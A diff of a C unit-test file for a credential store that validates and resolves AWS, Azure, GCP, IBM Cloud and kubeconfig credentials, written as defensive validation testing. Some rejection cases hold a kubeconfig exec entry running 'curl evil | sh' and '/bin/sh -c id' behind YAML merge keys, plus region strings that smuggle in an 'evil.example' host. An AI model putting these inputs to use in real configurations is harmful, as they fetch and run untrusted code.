@@ -73,8 +73,7 @@ static cJSON *json(const char *text)
 }
 
 /* {"type": type, holder: {"plain": plain}} plus the members of @p extra. */
-static cJSON *body_with(const char *type, const char *holder, const char *plain,
-                        const char *extra)
+static cJSON *body_with(const char *type, const char *holder, const char *plain, const char *extra)
 {
   cJSON *b = json(extra ? extra : "{}");
   cJSON *h;
@@ -93,6 +92,15 @@ static const struct cs_provider *prov(const char *type)
   const struct cs_provider *p = cs_provider_find(type);
   assert_non_null(p);
   return p;
+}
+
+/* A resolve without network state, as every case here needs none. */
+static enum cs_err resolve(const struct cs_provider *p, const cJSON *meta, const char *secret,
+                           size_t len, const struct cs_resolve_opts *opts, cJSON **out)
+{
+  struct cs_prov_ctx ctx = {NULL, "test-cred", 1, meta, secret, len, opts};
+  struct cs_net_error err = {"", "", ""};
+  return p->resolve(&ctx, out, &err);
 }
 
 /* Validate @p body (consumed) and expect success. */
@@ -118,9 +126,8 @@ static char sentinel_secret[] = "untouched";
 static void expect_fail_s(const char *type, cJSON *body, enum cs_err code, const char *field,
                           const char *secret)
 {
-  struct cs_prov_result res = {.meta = (cJSON *)&sentinel_meta,
-                               .secret = sentinel_secret,
-                               .secret_len = 77};
+  struct cs_prov_result res = {
+      .meta = (cJSON *)&sentinel_meta, .secret = sentinel_secret, .secret_len = 77};
   struct cs_prov_error err = {.field = {0}};
   enum cs_err e = prov(type)->validate(body, &res, &err);
 
@@ -196,12 +203,64 @@ static void test_registry(void **state)
     assert_ptr_equal(cs_provider_find(types[n]), cs_providers[n]);
     assert_non_null(cs_providers[n]->validate);
     assert_non_null(cs_providers[n]->resolve);
+    assert_non_null(cs_providers[n]->test);
+    assert_non_null(cs_providers[n]->short_lived);
   }
   assert_int_equal(n, 5);
   assert_null(cs_provider_find("AWS"));
   assert_null(cs_provider_find("ibmcloud"));
   assert_null(cs_provider_find(""));
   assert_null(cs_provider_find(NULL));
+}
+
+/* Resolve options narrow, never widen: each refusal names its field. */
+static void test_resolve_opts_check(void **state)
+{
+  cJSON *stored = json("{\"durationSeconds\":1800}"), *none = json("{}");
+  struct cs_net_error err;
+  struct {
+    const cJSON *meta;
+    struct cs_resolve_opts o;
+    const char *field; /* NULL: accepted */
+  } cases[] = {
+      {none, {.duration_seconds = 0, .region = NULL, .session_name = NULL}, NULL},
+      {none,
+       {.duration_seconds = 3600, .region = "eu-west-1", .session_name = "credstore-u-1"},
+       NULL},
+      {none, {.duration_seconds = 3601, .region = NULL, .session_name = NULL}, "durationSeconds"},
+      {stored, {.duration_seconds = 1800, .region = NULL, .session_name = NULL}, NULL},
+      {stored, {.duration_seconds = 1801, .region = NULL, .session_name = NULL}, "durationSeconds"},
+      {none,
+       {.duration_seconds = 0, .region = NULL, .session_name = "credstore-u-2"},
+       "sessionName"},
+      {none, {.duration_seconds = 0, .region = NULL, .session_name = ""}, "sessionName"},
+      {none, {.duration_seconds = 0, .region = "EU-WEST-1", .session_name = NULL}, "region"},
+      {none,
+       {.duration_seconds = 0, .region = "eu-west-1.evil.example", .session_name = NULL},
+       "region"},
+      {none, {.duration_seconds = 0, .region = "", .session_name = NULL}, "region"},
+      /* The first fault is named. */
+      {stored,
+       {.duration_seconds = 7200, .region = "bad", .session_name = "other"},
+       "durationSeconds"},
+      {none, {.duration_seconds = 0, .region = "bad", .session_name = "other"}, "sessionName"},
+  };
+
+  (void)state;
+  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+    memset(&err, 0, sizeof err);
+    enum cs_err e = cs_resolve_opts_check(cases[i].meta, &cases[i].o, "credstore-u-1", &err);
+    if (!cases[i].field) {
+      assert_int_equal(e, CS_OK);
+      assert_string_equal(err.field, "");
+    } else {
+      assert_int_equal(e, CS_ERR_INVALID);
+      assert_string_equal(err.field, cases[i].field);
+      assert_non_null(strstr(err.message, cases[i].field));
+    }
+  }
+  cJSON_Delete(stored);
+  cJSON_Delete(none);
 }
 
 static void test_result_free(void **state)
@@ -241,7 +300,7 @@ static void test_aws_static_keys(void **state)
   assert_int_equal(r.secret_len, strlen(KEY_SECRET));
   assert_not_in_json(r.meta, KEY_SECRET);
 
-  assert_int_equal(prov("aws")->resolve(r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
+  assert_int_equal(resolve(prov("aws"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
   assert_str_member(out, "type", "aws");
   assert_str_member(out, "AccessKeyId", KEY_ID);
   assert_str_member(out, "SecretAccessKey", KEY_SECRET);
@@ -272,7 +331,7 @@ static void test_aws_role_options(void **state)
   assert_int_equal(member_count(r.meta), 7);
   assert_not_in_json(r.meta, KEY_SECRET);
   /* A role needs STS: not resolvable here, and *out stays untouched. */
-  assert_int_equal(prov("aws")->resolve(r.meta, r.secret, r.secret_len, NULL, &out),
+  assert_int_equal(resolve(prov("aws"), r.meta, r.secret, r.secret_len, NULL, &out),
                    CS_ERR_UNAVAILABLE);
   assert_ptr_equal(out, (cJSON *)&sentinel_meta);
   cs_prov_result_free(&r);
@@ -289,7 +348,7 @@ static void test_aws_instance_role(void **state)
   assert_no_member(r.meta, "accountID");
   assert_int_equal(r.secret_len, 0);
   assert_string_equal(r.secret, "");
-  assert_int_equal(prov("aws")->resolve(r.meta, r.secret, r.secret_len, NULL, &out),
+  assert_int_equal(resolve(prov("aws"), r.meta, r.secret, r.secret_len, NULL, &out),
                    CS_ERR_UNAVAILABLE);
   assert_null(out);
   cs_prov_result_free(&r);
@@ -331,9 +390,10 @@ static void test_aws_missing(void **state)
 
 static void test_aws_bad_key_id(void **state)
 {
-  static const char *const bad[] = {
-      "\"akiaiosfodnn7example\"", "\"AKIA1234\"", "\"AKIAIOSFODNN7EXAMPL_\"",
-      "\"AKIA IOSFODNN7EXAMPLE\"", "12345678901234567890", "true", "[\"" KEY_ID "\"]"};
+  static const char *const bad[] = {"\"akiaiosfodnn7example\"", "\"AKIA1234\"",
+                                    "\"AKIAIOSFODNN7EXAMPL_\"", "\"AKIA IOSFODNN7EXAMPLE\"",
+                                    "12345678901234567890",     "true",
+                                    "[\"" KEY_ID "\"]"};
   char text[512], id[130];
   struct cs_prov_result r;
   cJSON *b;
@@ -368,9 +428,11 @@ static void test_aws_bad_secret(void **state)
   (void)state;
   memset(long_secret, 'k', 129);
   long_secret[129] = '\0';
-  expect_fail_s("aws", body_with("aws", "secret", "wJalrXUtnFEMI K7MDENG", "{\"accountID\":\"" KEY_ID "\"}"),
-                CS_ERR_INVALID, "secret.plain", "wJalrXUtnFEMI");
-  expect_fail_s("aws", body_with("aws", "secret", "tab\tSECRETVALUE", "{\"accountID\":\"" KEY_ID "\"}"),
+  expect_fail_s(
+      "aws", body_with("aws", "secret", "wJalrXUtnFEMI K7MDENG", "{\"accountID\":\"" KEY_ID "\"}"),
+      CS_ERR_INVALID, "secret.plain", "wJalrXUtnFEMI");
+  expect_fail_s("aws",
+                body_with("aws", "secret", "tab\tSECRETVALUE", "{\"accountID\":\"" KEY_ID "\"}"),
                 CS_ERR_INVALID, "secret.plain", "SECRETVALUE");
   expect_fail("aws", body_with("aws", "secret", long_secret, "{\"accountID\":\"" KEY_ID "\"}"),
               CS_ERR_INVALID, "secret.plain");
@@ -390,12 +452,12 @@ static void test_aws_role_arn(void **state)
       "arn:aws-us-gov:iam::000000000000:role/a/b/c/d",
   };
   static const char *const bad[] = {
-      "arn:aws:iam::12345678901:role/x",  "arn:aws:iam::1234567890123:role/x",
-      "arn:aws:iam::123456789012:user/x", "arn:aws:iam::123456789012:role/",
-      "arn:aws:iam::123456789012:role/a/", "arn:aws:sts::123456789012:role/x",
+      "arn:aws:iam::12345678901:role/x",     "arn:aws:iam::1234567890123:role/x",
+      "arn:aws:iam::123456789012:user/x",    "arn:aws:iam::123456789012:role/",
+      "arn:aws:iam::123456789012:role/a/",   "arn:aws:sts::123456789012:role/x",
       "arn:aws-eu:iam::123456789012:role/x", "arn:aws:iam:us-east-1:123456789012:role/x",
-      "arn:aws:iam::123456789012:role/a b", "arn:aws:iam::123456789012:role/a:b",
-      "arn:aws:iam::123456789012:role/é",  "role/x",
+      "arn:aws:iam::123456789012:role/a b",  "arn:aws:iam::123456789012:role/a:b",
+      "arn:aws:iam::123456789012:role/é",    "role/x",
       "arn:aws:iam::12345678901x:role/x",
   };
   char text[1024];
@@ -413,7 +475,8 @@ static void test_aws_role_arn(void **state)
     expect_fail("aws", json(text), CS_ERR_INVALID, "roleArn");
   }
   /* 513 characters after role/ */
-  int n = snprintf(text, sizeof text, "{\"useAWSRole\":true,\"roleArn\":\"arn:aws:iam::123456789012:role/");
+  int n = snprintf(text, sizeof text,
+                   "{\"useAWSRole\":true,\"roleArn\":\"arn:aws:iam::123456789012:role/");
   memset(text + n, 'r', 513);
   snprintf(text + n + 513, sizeof text - (size_t)n - 513, "\"}");
   expect_fail("aws", json(text), CS_ERR_INVALID, "roleArn");
@@ -464,8 +527,7 @@ static void test_aws_numbers_and_flags(void **state)
   expect_ok("aws", b, &r);
   assert_int_equal(strlen(cJSON_GetObjectItem(r.meta, "externalID")->valuestring), 1224);
   cs_prov_result_free(&r);
-  expect_ok("aws", json("{\"useAWSRole\":true,\"durationSeconds\":900,\"externalID\":\"ab\"}"),
-            &r);
+  expect_ok("aws", json("{\"useAWSRole\":true,\"durationSeconds\":900,\"externalID\":\"ab\"}"), &r);
   assert_int_equal(cJSON_GetObjectItem(r.meta, "durationSeconds")->valuedouble, 900);
   cs_prov_result_free(&r);
 }
@@ -475,16 +537,42 @@ static void test_aws_numbers_and_flags(void **state)
 static void test_aws_region_names(void **state)
 {
   static const char *const good[] = {
-      "us-east-1", "eu-west-3", "ap-southeast-4", "me-central-1", "il-central-1",
-      "us-gov-west-1", "cn-north-1", "us-iso-east-1", "us-isob-east-1", "eu-isoe-west-1",
-      "eusc-de-east-1", "ca-west-1", "ap-south-22"};
-  static const char *const bad[] = {
-      "", "us", "us-east", "us-east-", "-us-east-1", "us-east-1-", "useast1", "us_east_1",
-      "US-EAST-1", "Us-east-1", "us-East-1", "us-east-1a", "us-east-123", "u-east-1",
-      "abcde-east-1", "us--east-1", "us-east--1", "us-1", "us-east-1.evil.example",
-      "evil.example/us-east-1", "us-east-1/", "us-east-1#", "us-east-1?", "us-east-1@x",
-      "x@us-east-1", "us-east-1:443", "us-east-1%2e", "us east 1", " us-east-1",
-      "us-east-1 ", "us-east-1\n", "\xc3\xbcs-east-1", "us-southeast-southwest-northeast-1"};
+      "us-east-1",      "eu-west-3",  "ap-southeast-4", "me-central-1",   "il-central-1",
+      "us-gov-west-1",  "cn-north-1", "us-iso-east-1",  "us-isob-east-1", "eu-isoe-west-1",
+      "eusc-de-east-1", "ca-west-1",  "ap-south-22"};
+  static const char *const bad[] = {"",
+                                    "us",
+                                    "us-east",
+                                    "us-east-",
+                                    "-us-east-1",
+                                    "us-east-1-",
+                                    "useast1",
+                                    "us_east_1",
+                                    "US-EAST-1",
+                                    "Us-east-1",
+                                    "us-East-1",
+                                    "us-east-1a",
+                                    "us-east-123",
+                                    "u-east-1",
+                                    "abcde-east-1",
+                                    "us--east-1",
+                                    "us-east--1",
+                                    "us-1",
+                                    "us-east-1.evil.example",
+                                    "evil.example/us-east-1",
+                                    "us-east-1/",
+                                    "us-east-1#",
+                                    "us-east-1?",
+                                    "us-east-1@x",
+                                    "x@us-east-1",
+                                    "us-east-1:443",
+                                    "us-east-1%2e",
+                                    "us east 1",
+                                    " us-east-1",
+                                    "us-east-1 ",
+                                    "us-east-1\n",
+                                    "\xc3\xbcs-east-1",
+                                    "us-southeast-southwest-northeast-1"};
   (void)state;
   for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
     assert_true(cs_aws_region_valid(good[i]));
@@ -507,10 +595,10 @@ static void test_aws_resolve_corrupt(void **state)
   cJSON *out = NULL;
 
   (void)state;
-  assert_int_equal(prov("aws")->resolve(meta, embedded_nul, sizeof embedded_nul - 1, NULL, &out),
+  assert_int_equal(resolve(prov("aws"), meta, embedded_nul, sizeof embedded_nul - 1, NULL, &out),
                    CS_ERR_CRYPTO);
-  assert_int_equal(prov("aws")->resolve(meta, "", 0, NULL, &out), CS_ERR_CRYPTO);
-  assert_int_equal(prov("aws")->resolve(meta, NULL, 0, NULL, &out), CS_ERR_CRYPTO);
+  assert_int_equal(resolve(prov("aws"), meta, "", 0, NULL, &out), CS_ERR_CRYPTO);
+  assert_int_equal(resolve(prov("aws"), meta, NULL, 0, NULL, &out), CS_ERR_CRYPTO);
   assert_null(out);
   cJSON_Delete(meta);
 }
@@ -534,19 +622,17 @@ static void test_azure_valid(void **state)
   assert_int_equal(member_count(r.meta), 2);
   assert_str_member(info, "clientId", cJSON_GetObjectItem(sk, "clientId")->valuestring);
   assert_str_member(info, "tenantId", cJSON_GetObjectItem(sk, "tenantId")->valuestring);
-  assert_str_member(info, "subscriptionId",
-                    cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
+  assert_str_member(info, "subscriptionId", cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
   assert_not_in_json(r.meta, client_secret);
   assert_int_equal(r.secret_len, len);
   assert_memory_equal(r.secret, sk_text, len);
 
-  assert_int_equal(prov("azure")->resolve(r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
+  assert_int_equal(resolve(prov("azure"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
   assert_str_member(out, "type", "azure");
   assert_str_member(out, "clientId", cJSON_GetObjectItem(sk, "clientId")->valuestring);
   assert_str_member(out, "clientSecret", client_secret);
   assert_str_member(out, "tenantId", cJSON_GetObjectItem(sk, "tenantId")->valuestring);
-  assert_str_member(out, "subscriptionId",
-                    cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
+  assert_str_member(out, "subscriptionId", cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
   assert_true(cJSON_Compare(cJSON_GetObjectItem(out, "serviceKey"), sk, true));
   cJSON_Delete(out);
   cs_prov_result_free(&r);
@@ -556,8 +642,7 @@ static void test_azure_valid(void **state)
 
 static void test_azure_invalid(void **state)
 {
-  static const char *const required[] = {"clientId", "clientSecret", "tenantId",
-                                         "subscriptionId"};
+  static const char *const required[] = {"clientId", "clientSecret", "tenantId", "subscriptionId"};
   char *sk_text = fixture("azure-sdk-auth.json", NULL);
   const char *secret_value;
   char field[64];
@@ -590,13 +675,12 @@ static void test_azure_invalid(void **state)
   secret_value = cJSON_GetObjectItem(sk, "clientSecret")->valuestring;
   char *broken = strdup(sk_text);
   broken[strlen(broken) - 3] = '\0'; /* cut the closing brace */
-  expect_fail_s("azure", body_with("azure", "secret", broken, NULL), CS_ERR_INVALID,
-                "secret.plain", secret_value);
+  expect_fail_s("azure", body_with("azure", "secret", broken, NULL), CS_ERR_INVALID, "secret.plain",
+                secret_value);
   free(broken);
   cJSON_Delete(sk);
 
-  expect_fail("azure", body_with("azure", "secret", "[1,2]", NULL), CS_ERR_INVALID,
-              "secret.plain");
+  expect_fail("azure", body_with("azure", "secret", "[1,2]", NULL), CS_ERR_INVALID, "secret.plain");
   expect_fail("azure", body_with("azure", "secret", "\"clientId\"", NULL), CS_ERR_INVALID,
               "secret.plain");
   expect_fail("azure", body_with("azure", "secret", "client_id=abc", NULL), CS_ERR_INVALID,
@@ -607,8 +691,7 @@ static void test_azure_invalid(void **state)
   deep[199] = '\0';
   expect_fail("azure", body_with("azure", "secret", deep, NULL), CS_ERR_INVALID, "secret.plain");
   expect_fail("azure", json("{}"), CS_ERR_MISSING, "secret.plain");
-  expect_fail("azure", json("{\"secret\":{\"encrypted\":\"x\"}}"), CS_ERR_MISSING,
-              "secret.plain");
+  expect_fail("azure", json("{\"secret\":{\"encrypted\":\"x\"}}"), CS_ERR_MISSING, "secret.plain");
   expect_fail("azure", json("{\"secret\":true}"), CS_ERR_INVALID, "secret");
   free(sk_text);
 }
@@ -620,9 +703,8 @@ static void test_azure_resolve_corrupt(void **state)
 
   (void)state;
   for (size_t i = 0; i < sizeof payloads / sizeof payloads[0]; i++)
-    assert_int_equal(
-        prov("azure")->resolve(meta, payloads[i], strlen(payloads[i]), NULL, &out),
-        CS_ERR_CRYPTO);
+    assert_int_equal(resolve(prov("azure"), meta, payloads[i], strlen(payloads[i]), NULL, &out),
+                     CS_ERR_CRYPTO);
   assert_null(out);
   cJSON_Delete(meta);
 }
@@ -652,7 +734,7 @@ static void test_gcp_service_account(void **state)
   assert_not_in_json(r.meta, body_of_key);
   assert_not_in_json(r.meta, cJSON_GetObjectItem(sa, "private_key_id")->valuestring);
 
-  assert_int_equal(prov("gcp")->resolve(r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
+  assert_int_equal(resolve(prov("gcp"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
   assert_str_member(out, "type", "gcp");
   assert_true(cJSON_Compare(cJSON_GetObjectItem(out, "serviceAccount"), sa, true));
   assert_no_member(out, "apiToken");
@@ -675,7 +757,7 @@ static void test_gcp_api_token(void **state)
   assert_int_equal(member_count(r.meta), 1);
   assert_string_equal(r.secret, token);
   assert_not_in_json(r.meta, token);
-  assert_int_equal(prov("gcp")->resolve(r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
+  assert_int_equal(resolve(prov("gcp"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
   assert_str_member(out, "type", "gcp");
   assert_str_member(out, "apiToken", token);
   assert_no_member(out, "serviceAccount");
@@ -740,21 +822,25 @@ static void test_gcp_sa_invalid(void **state)
       {"private_key", NULL, CS_ERR_MISSING, "secret.plain.private_key"},
       {"private_key", "\"not a key\"", CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PUBLIC KEY-----\\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtestAAAAAAAAAAAAAAAAAAAA\\n"
+       "\"-----BEGIN PUBLIC "
+       "KEY-----\\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtestAAAAAAAAAAAAAAAAAAAA\\n"
        "-----END PUBLIC KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
+       "\"-----BEGIN PRIVATE "
+       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
        "-----END RSA PRIVATE KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC*KcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
+       "\"-----BEGIN PRIVATE "
+       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC*KcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
        "-----END PRIVATE KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key", "\"-----BEGIN PRIVATE KEY-----\\n\\n-----END PRIVATE KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n\"",
+       "\"-----BEGIN PRIVATE "
+       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"client_email", "\"scanner.example.com\"", CS_ERR_INVALID, "secret.plain.client_email"},
       {"client_email", "\"@example.com\"", CS_ERR_INVALID, "secret.plain.client_email"},
@@ -769,9 +855,11 @@ static void test_gcp_sa_invalid(void **state)
     free(t);
   }
   /* An RSA PRIVATE KEY block is accepted, as are CRLF line ends. */
-  char *t = sa_variant("private_key",
-                       "\"-----BEGIN RSA PRIVATE KEY-----\\r\\nMIIEowIBAAKCAQEA0ajI7Jf1e61YqbvyhwIDAQABAoIBAQCxAAAAAAAAAAAAAAAAAAAAAA==\\r\\n"
-                       "-----END RSA PRIVATE KEY-----\\r\\n\"");
+  char *t = sa_variant(
+      "private_key",
+      "\"-----BEGIN RSA PRIVATE "
+      "KEY-----\\r\\nMIIEowIBAAKCAQEA0ajI7Jf1e61YqbvyhwIDAQABAoIBAQCxAAAAAAAAAAAAAAAAAAAAAA==\\r\\n"
+      "-----END RSA PRIVATE KEY-----\\r\\n\"");
   struct cs_prov_result r;
   expect_ok("gcp", body_with("gcp", "secret", t, NULL), &r);
   cs_prov_result_free(&r);
@@ -787,12 +875,11 @@ static void test_gcp_resolve_corrupt(void **state)
   cJSON *meta = json("{\"authType\":\"serviceAccount\"}"), *out = NULL;
 
   (void)state;
-  assert_int_equal(prov("gcp")->resolve(meta, "{\"type\":\"x\"}", 12, NULL, &out),
-                   CS_ERR_CRYPTO);
-  assert_int_equal(prov("gcp")->resolve(meta, "AIzaSy", 6, NULL, &out), CS_ERR_CRYPTO);
+  assert_int_equal(resolve(prov("gcp"), meta, "{\"type\":\"x\"}", 12, NULL, &out), CS_ERR_CRYPTO);
+  assert_int_equal(resolve(prov("gcp"), meta, "AIzaSy", 6, NULL, &out), CS_ERR_CRYPTO);
   cJSON_Delete(meta);
   meta = json("{\"authType\":\"apiToken\"}");
-  assert_int_equal(prov("gcp")->resolve(meta, "", 0, NULL, &out), CS_ERR_CRYPTO);
+  assert_int_equal(resolve(prov("gcp"), meta, "", 0, NULL, &out), CS_ERR_CRYPTO);
   assert_null(out);
   cJSON_Delete(meta);
 }
@@ -815,7 +902,7 @@ static void test_ibm(void **state)
   assert_int_equal(member_count(r.meta), 1);
   assert_string_equal(r.secret, key);
   assert_not_in_json(r.meta, key);
-  assert_int_equal(prov("ibmCloud")->resolve(r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
+  assert_int_equal(resolve(prov("ibmCloud"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
   assert_str_member(out, "type", "ibmCloud");
   assert_str_member(out, "accountGUID", guid);
   assert_str_member(out, "apiKey", key);
@@ -893,8 +980,7 @@ static void test_kube_token(void **state)
   assert_not_in_json(r.meta, token);
   assert_not_in_json(r.meta, ca);
 
-  assert_int_equal(prov("kubeconfig")->resolve(r.meta, r.secret, r.secret_len, NULL, &out),
-                   CS_OK);
+  assert_int_equal(resolve(prov("kubeconfig"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
   assert_str_member(out, "type", "kubeconfig");
   assert_str_member(out, "kubeconfig", text);
   cJSON_Delete(out);
@@ -979,8 +1065,7 @@ static void test_kube_bad_context(void **state)
   kube_fixture_fails("kubeconfig-bad-context.yaml", "current-context", "token");
 }
 
-#define KUBE_HEAD                                                                              \
-  "apiVersion: v1\nkind: Config\n"
+#define KUBE_HEAD "apiVersion: v1\nkind: Config\n"
 #define KUBE_CLUSTERS "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
 #define KUBE_USERS "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
 #define KUBE_CONTEXTS "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
@@ -1036,35 +1121,38 @@ static void test_kube_structure(void **state)
                   "current-context must be a non-empty string");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: x2\n",
                   "current-context names no entry");
-  kube_text_fails("clusters:\n- name: c1\n  cluster:\n    insecure-skip-tls-verify: true\n"
-                  KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
-                  "clusters[0].cluster.server is required");
-  kube_text_fails("clusters:\n- cluster:\n    server: https://a\n" KUBE_USERS KUBE_CONTEXTS
-                  KUBE_CURRENT,
-                  "clusters[0].name is required");
+  kube_text_fails(
+      "clusters:\n- name: c1\n  cluster:\n    insecure-skip-tls-verify: true\n" KUBE_USERS
+          KUBE_CONTEXTS KUBE_CURRENT,
+      "clusters[0].cluster.server is required");
+  kube_text_fails(
+      "clusters:\n- cluster:\n    server: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+      "clusters[0].name is required");
   kube_text_fails("clusters:\n- name: c1\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
                   "clusters[0].cluster is required");
-  kube_text_fails("clusters:\n- name: c1\n  cluster: https://a\n" KUBE_USERS KUBE_CONTEXTS
-                  KUBE_CURRENT,
-                  "must be a mapping");
-  kube_text_fails(KUBE_CLUSTERS "- name: c1\n  cluster:\n    server: https://b\n" KUBE_USERS
-                  KUBE_CONTEXTS KUBE_CURRENT,
-                  "clusters[1].name repeats");
+  kube_text_fails(
+      "clusters:\n- name: c1\n  cluster: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+      "must be a mapping");
+  kube_text_fails(
+      KUBE_CLUSTERS
+      "- name: c1\n  cluster:\n    server: https://b\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+      "clusters[1].name repeats");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS
                   "contexts:\n- name: x1\n  context:\n    cluster: c1\n" KUBE_CURRENT,
                   "contexts[0].context.user is required");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS
-                  "contexts:\n- name: x1\n  context:\n    cluster: c9\n    user: u1\n"
-                  KUBE_CURRENT,
+                  "contexts:\n- name: x1\n  context:\n    cluster: c9\n    user: u1\n" KUBE_CURRENT,
                   "contexts[0].context.cluster (the current context's) names no entry");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS
                   "contexts:\n- name: x0\n  context:\n    cluster: c1\n    user: u1\n"
                   "- name: x1\n  context:\n    cluster: c1\n    user: u9\n" KUBE_CURRENT,
                   "contexts[1].context.user (the current context's) names no entry");
-  kube_text_fails(KUBE_CLUSTERS "users:\n- name: u1\n  user:\n    token: sekrit\n"
-                  "- name: u2\n  user:\n    exec:\n      command: gke-gcloud-auth-plugin\n"
-                  KUBE_CONTEXTS KUBE_CURRENT,
-                  "users[1].user.exec");
+  kube_text_fails(
+      KUBE_CLUSTERS
+      "users:\n- name: u1\n  user:\n    token: sekrit\n"
+      "- name: u2\n  user:\n    exec:\n      command: gke-gcloud-auth-plugin\n" KUBE_CONTEXTS
+          KUBE_CURRENT,
+      "users[1].user.exec");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT "current-context: x1\n",
                   "current-context appears twice");
   kube_text_fails("- clusters\n- users\n", "must be a mapping");
@@ -1072,8 +1160,7 @@ static void test_kube_structure(void **state)
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT "---\n" KUBE_CURRENT,
                   "one YAML document");
   kube_text_fails("# only a comment\n", "empty");
-  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: \"x\\0y\"\n",
-                  "NUL");
+  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: \"x\\0y\"\n", "NUL");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "? [a, b]\n: c\n" KUBE_CURRENT,
                   "mapping keys must be plain strings");
   kube_text_fails("base: &b\n  server: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
@@ -1086,10 +1173,10 @@ static void test_kube_structure(void **state)
 }
 
 /* A document whose only user is @p user_body (the lines under "  user:"). */
-#define KUBE_WITH_USER(user_body)                                                              \
+#define KUBE_WITH_USER(user_body)                                                                  \
   KUBE_CLUSTERS "users:\n- name: u1\n  user:\n" user_body KUBE_CONTEXTS KUBE_CURRENT
 /* A document whose only cluster is @p cluster_body (the lines under "  cluster:"). */
-#define KUBE_WITH_CLUSTER(cluster_body)                                                        \
+#define KUBE_WITH_CLUSTER(cluster_body)                                                            \
   "clusters:\n- name: c1\n  cluster:\n" cluster_body KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT
 
 struct kube_case {
@@ -1126,27 +1213,27 @@ static void test_kube_merge_keys(void **state)
       {KUBE_WITH_USER("    <<:\n      exec:\n        command: /bin/sh\n"
                       "        args: [-c, 'curl evil | sh']\n"),
        "users[0].user.<<: YAML merge keys"},
-      {KUBE_CLUSTERS "users:\n- name: u1\n  user: {<<: {exec: {command: /bin/sh, args: [-c, id]}}}\n"
-       KUBE_CONTEXTS KUBE_CURRENT,
+      {KUBE_CLUSTERS "users:\n- name: u1\n  user: {<<: {exec: {command: /bin/sh, args: [-c, "
+                     "id]}}}\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].user.<<: YAML merge keys"},
       /* after an honest field, so a first-key-only check would miss it */
       {KUBE_WITH_USER("    token: sekrit-token-value\n    <<: {exec: {command: sh}}\n"),
        "users[0].user.<<"},
       /* at entry level, carrying the whole user */
       {KUBE_CLUSTERS "users:\n- name: u1\n  <<:\n    user:\n      auth-provider:\n"
-       "        name: gcp\n" KUBE_CONTEXTS KUBE_CURRENT,
+                     "        name: gcp\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].<<: YAML merge keys"},
-      {KUBE_CLUSTERS "users:\n- {name: u1, <<: {user: {exec: {command: sh}}}}\n" KUBE_CONTEXTS
-       KUBE_CURRENT,
+      {KUBE_CLUSTERS
+       "users:\n- {name: u1, <<: {user: {exec: {command: sh}}}}\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].<<"},
       /* at top level, at cluster level, in a context, in a sequence item */
